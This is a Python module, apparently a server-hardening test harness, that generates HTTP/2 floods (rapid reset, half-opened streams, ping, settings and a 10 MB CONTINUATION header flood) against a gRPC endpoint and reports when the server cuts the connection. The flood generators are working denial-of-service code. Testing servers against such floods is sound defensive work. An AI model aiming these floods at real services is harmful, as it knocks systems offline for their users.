"""Floods of HTTP/2 frames on one connection (https://www.rfc-editor.org/rfc/rfc9113)."""

import asyncio
import contextlib
import itertools
import struct
from collections.abc import Iterable, Iterator

__all__ = ["HTTP2_FLOODS", "send_frames"]

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RST_STREAM, _SETTINGS, _PING, _CONTINUATION = 1, 3, 4, 6, 9
_END_HEADERS = 4
_CANCEL = struct.pack(">I", 8)
_FRAMES_AT_ONCE = 500


def _frame(kind: int, payload: bytes, *, flags: int = 0, stream: int = 0) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _field(name: bytes, value: bytes) -> bytes:
    """Return a field without indexing and Huffman codes; both parts below 127 bytes."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


_HEAD = b"".join(
    _field(name, value)
    for name, value in (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", b"/tokenwire.completion.v1.CompletionService/Session"),
        (b":authority", b"127.0.0.1"),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
    )
)


def _begun() -> Iterator[bytes]:
    for stream in range(1, 40_000, 2):
        yield _frame(_HEADERS, _HEAD, flags=_END_HEADERS, stream=stream)


def _reset() -> Iterator[bytes]:
    for stream in range(1, 160_000, 2):
        yield _frame(_HEADERS, _HEAD, flags=_END_HEADERS, stream=stream)
        yield _frame(_RST_STREAM, _CANCEL, stream=stream)


def _pings() -> Iterator[bytes]:
    return itertools.repeat(_frame(_PING, bytes(8)), 100_000)


def _settings() -> Iterator[bytes]:
    return itertools.repeat(_frame(_SETTINGS, b""), 1_500_000)


def _continuation() -> Iterator[bytes]:
    yield _frame(_HEADERS, _HEAD, stream=1)
    part = _frame(_CONTINUATION, _field(b"x-flood", b"y" * 100) * 140, stream=1)
    yield from itertools.repeat(part, 10_000_000 // len(part))
    yield _frame(_CONTINUATION, b"", flags=_END_HEADERS, stream=1)


HTTP2_FLOODS = {
    "HTTP/2: 80,000 requests, reset at once": _reset,
    "HTTP/2: 20,000 requests that only begin": _begun,
    "HTTP/2: 100,000 pings": _pings,
    "HTTP/2: 1,500,000 settings": _settings,
    "HTTP/2: a head of 10 MB": _continuation,
}
"""The frames of each flood, by its name"""


async def send_frames(target: str, frames: Iterable[bytes]) -> str:
    """Send frames to "host:port" and return how that ended: "" or where the server cut it."""
    host, _, port = target.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    answers = asyncio.ensure_future(_discard(reader))
    sent = 0
    try:
        writer.write(_PREFACE + _frame(_SETTINGS, b""))
        left = iter(frames)
        while part := tuple(itertools.islice(left, _FRAMES_AT_ONCE)):
            writer.write(b"".join(part))
            await writer.drain()
            sent += len(part)
            if answers.done():
                return f"cut within {sent:,} frames"
        return ""
    except ConnectionError:
        return f"cut within {sent:,} frames"
    finally:
        answers.cancel()
        writer.close()


async def _discard(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(ConnectionError):
        while await reader.read(1 << 16):
            pass
